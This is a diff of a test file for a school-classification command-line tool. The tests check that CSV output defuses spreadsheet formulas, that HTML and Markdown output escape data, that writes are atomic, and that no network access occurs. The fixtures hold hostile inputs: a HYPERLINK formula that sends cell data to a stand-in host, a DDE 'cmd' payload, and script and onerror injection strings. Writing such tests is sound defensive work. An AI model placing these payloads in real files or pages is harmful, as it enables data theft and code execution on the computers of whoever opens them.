@@ -13,7 +13,8 @@ import { toCsv } from '../../src/io/formats/csv.js';
 
 const work = mkdtempSync(join(tmpdir(), 'sit-safe-'));
 const AS_OF = ['--as-of', '2026-09-01'];
-const HOSTILE = 'urn,name,phase,trust,ofsted_overall,leadership_capacity,override_tier,override_reason\n' +
+const HOSTILE =
+  'urn,name,phase,trust,ofsted_overall,leadership_capacity,override_tier,override_reason\n' +
   '100001,"=HYPERLINK(""http://x.example/?""&A1)",primary,-12.5,Good,supports-others,,\n' +
   '100002,+SUM(A1:A9),primary,@evil,Good,needs-support,,\n' +
   '100003,-2+3,primary,"\tTabbed",RI,,,\n' +
@@ -22,23 +23,47 @@ const HOSTILE = 'urn,name,phase,trust,ofsted_overall,leadership_capacity,overrid
 writeFileSync(join(work, 'hostile.csv'), HOSTILE);
 
 describe('CSV is safe in Excel', () => {
-  const result = runSit(['classify', 'hostile.csv', '--preset', 'rlt-categories', ...AS_OF, '--format', 'csv'], { cwd: work });
+  const result = runSit(['classify', 'hostile.csv', '--preset', 'rlt-categories', ...AS_OF, '--format', 'csv'], {
+    cwd: work,
+  });
   const rows = parse(result.stdout, { columns: true }) as Record<string, string>[];
 
   it('neutralises every cell that starts with = + - @ tab or CR', () => {
     expect(result.code, result.stderr).toBe(0);
-    for (const row of rows) for (const value of Object.values(row)) {
-      if (/^[=+\-@\t\r]/.test(value)) expect(Number.isFinite(Number(value)), `unsafe cell ${JSON.stringify(value)}`).toBe(true);
-    }
+    for (const row of rows)
+      for (const value of Object.values(row)) {
+        if (/^[=+\-@\t\r]/.test(value))
+          expect(Number.isFinite(Number(value)), `unsafe cell ${JSON.stringify(value)}`).toBe(true);
+      }
     // Cells are trimmed when read, so a leading tab or CR in the data goes there already.
-    expect(rows.map((r) => r.name)).toEqual(["'=HYPERLINK(\"http://x.example/?\"&A1)", "'+SUM(A1:A9)", "'-2+3", 'Carriage', '<script>alert(1)</script> | *bold* [x](y) `code`']);
+    expect(rows.map((r) => r.name)).toEqual([
+      '\'=HYPERLINK("http://x.example/?"&A1)',
+      "'+SUM(A1:A9)",
+      "'-2+3",
+      'Carriage',
+      '<script>alert(1)</script> | *bold* [x](y) `code`',
+    ]);
     expect(rows[1].trust).toBe("'@evil");
     expect(rows[3].override).toBe("'=cmd|' /C calc'!A0");
   });
 
   it('the CSV writer neutralises a leading tab or CR too', () => {
-    const csv = toCsv({ title: 't', columns: [{ key: 'a', header: 'a' }, { key: 'b', header: 'b' }], rows: [{ a: '\tTabbed', b: '\rCR' }, { a: -3, b: '-3.5' }] });
-    expect(parse(csv)).toEqual([['a', 'b'], ["'\tTabbed", "'\rCR"], ['-3', '-3.5']]);
+    const csv = toCsv({
+      title: 't',
+      columns: [
+        { key: 'a', header: 'a' },
+        { key: 'b', header: 'b' },
+      ],
+      rows: [
+        { a: '\tTabbed', b: '\rCR' },
+        { a: -3, b: '-3.5' },
+      ],
+    });
+    expect(parse(csv)).toEqual([
+      ['a', 'b'],
+      ["'\tTabbed", "'\rCR"],
+      ['-3', '-3.5'],
+    ]);
   });
 
   it('keeps a negative number a number', () => {
@@ -52,7 +77,10 @@ describe('CSV is safe in Excel', () => {
 });
 
 describe('HTML and Markdown escape values from data and config', () => {
-  writeFileSync(join(work, 'trust.config.yaml'), 'extends: rlt-categories\nname: "<img src=x onerror=alert(2)> Trust | *policy*"\n');
+  writeFileSync(
+    join(work, 'trust.config.yaml'),
+    'extends: rlt-categories\nname: "<img src=x onerror=alert(2)> Trust | *policy*"\n',
+  );
   it('HTML has no markup from the data or the config', async () => {
     const html = await runInProcess(['classify', 'hostile.csv', ...AS_OF, '--format', 'html'], { cwd: work });
     expect(html.code, html.stderr).toBe(0);
@@ -69,7 +97,8 @@ describe('HTML and Markdown escape values from data and config', () => {
     expect(md.stdout).not.toContain('<img');
     const header = md.stdout.split('\n').find((l) => l.startsWith('| urn'))!;
     const columns = header.split(/(?<!\\)\|/).length;
-    for (const line of md.stdout.split('\n').filter((l) => /^\| 10000\d/.test(l))) expect(line.split(/(?<!\\)\|/)).toHaveLength(columns);
+    for (const line of md.stdout.split('\n').filter((l) => /^\| 10000\d/.test(l)))
+      expect(line.split(/(?<!\\)\|/)).toHaveLength(columns);
     expect(md.stdout).toContain('\\*bold\\*');
   });
 });
@@ -77,7 +106,10 @@ describe('HTML and Markdown escape values from data and config', () => {
 describe('-o writes atomically and never overwrites without --force', () => {
   it('refuses an existing file without --force and leaves it as it was', () => {
     writeFileSync(join(work, 'kept.csv'), 'precious\n');
-    const result = runSit(['classify', join(FIXTURES, 'schools.csv'), '--preset', 'rlt-categories', ...AS_OF, '-o', 'kept.csv'], { cwd: work });
+    const result = runSit(
+      ['classify', join(FIXTURES, 'schools.csv'), '--preset', 'rlt-categories', ...AS_OF, '-o', 'kept.csv'],
+      { cwd: work },
+    );
     expect(result.code).toBe(73);
     expect(readFileSync(join(work, 'kept.csv'), 'utf8')).toBe('precious\n');
   });
@@ -89,11 +121,32 @@ describe('-o writes atomically and never overwrites without --force', () => {
     writeFileSync(join(dir, 'out.csv'), 'the old result\n');
     const pause = join(dir, 'run.pause');
     expect(spawnSync('mkfifo', [pause]).status).toBe(0);
-    const [command, argv] = process.env.SIT_BIN && !process.env.SIT_BIN.endsWith('.js') ? [process.env.SIT_BIN, []] : [process.execPath, [join(ROOT, 'bin/sit.js')]];
-    const child = spawn(command, [...argv, 'classify', join(FIXTURES, 'schools.csv'), '--preset', 'rlt-categories', ...AS_OF, '-o', 'out.csv', '--force'], {
-      cwd: dir, stdio: 'ignore', env: { ...process.env, SIT_TEST_PAUSE_FIFO: pause },
-    });
-    const exited = new Promise<NodeJS.Signals | null>((resolve) => child.on('exit', (_code, signal) => resolve(signal)));
+    const [command, argv] =
+      process.env.SIT_BIN && !process.env.SIT_BIN.endsWith('.js')
+        ? [process.env.SIT_BIN, []]
+        : [process.execPath, [join(ROOT, 'bin/sit.js')]];
+    const child = spawn(
+      command,
+      [
+        ...argv,
+        'classify',
+        join(FIXTURES, 'schools.csv'),
+        '--preset',
+        'rlt-categories',
+        ...AS_OF,
+        '-o',
+        'out.csv',
+        '--force',
+      ],
+      {
+        cwd: dir,
+        stdio: 'ignore',
+        env: { ...process.env, SIT_TEST_PAUSE_FIFO: pause },
+      },
+    );
+    const exited = new Promise<NodeJS.Signals | null>((resolve) =>
+      child.on('exit', (_code, signal) => resolve(signal)),
+    );
     // Opening the FIFO to write waits until the writer is at the pause.
     const hold = await open(pause, 'w');
     const temp = readdirSync(dir).find((f) => f.startsWith('.sit-') && f.endsWith('.tmp'));
@@ -103,17 +156,31 @@ describe('-o writes atomically and never overwrites without --force', () => {
     expect(await exited).toBe('SIGKILL');
     await hold.close();
     expect(readFileSync(join(dir, 'out.csv'), 'utf8')).toBe('the old result\n');
-    expect(readdirSync(dir).filter((f) => !f.startsWith('.')).sort()).toEqual(['out.csv', 'run.pause']);
+    expect(
+      readdirSync(dir)
+        .filter((f) => !f.startsWith('.'))
+        .sort(),
+    ).toEqual(['out.csv', 'run.pause']);
   });
 });
 
 describe('no code path opens a network connection', () => {
   const preload = join(ROOT, 'test/helpers/no-network.mjs');
   const log = join(work, 'network.log');
-  const run = (args: string[]) => spawnSync(process.execPath, ['--import', preload, join(ROOT, 'bin/sit.js'), ...args], { cwd: FIXTURES, env: { ...process.env, SIT_NETWORK_LOG: log, NO_COLOR: '1' }, encoding: 'utf8', input: '' });
+  const run = (args: string[]) =>
+    spawnSync(process.execPath, ['--import', preload, join(ROOT, 'bin/sit.js'), ...args], {
+      cwd: FIXTURES,
+      env: { ...process.env, SIT_NETWORK_LOG: log, NO_COLOR: '1' },
+      encoding: 'utf8',
+      input: '',
+    });
 
   it('the preload does catch a connection (control)', () => {
-    const result = spawnSync(process.execPath, ['--import', preload, '-e', "require('node:net').connect(80, 'example.org')"], { env: { ...process.env, SIT_NETWORK_LOG: join(work, 'control.log') }, encoding: 'utf8' });
+    const result = spawnSync(
+      process.execPath,
+      ['--import', preload, '-e', "require('node:net').connect(80, 'example.org')"],
+      { env: { ...process.env, SIT_NETWORK_LOG: join(work, 'control.log') }, encoding: 'utf8' },
+    );
     expect(result.status).not.toBe(0);
     expect(readFileSync(join(work, 'control.log'), 'utf8')).toContain('net.connect');
   });
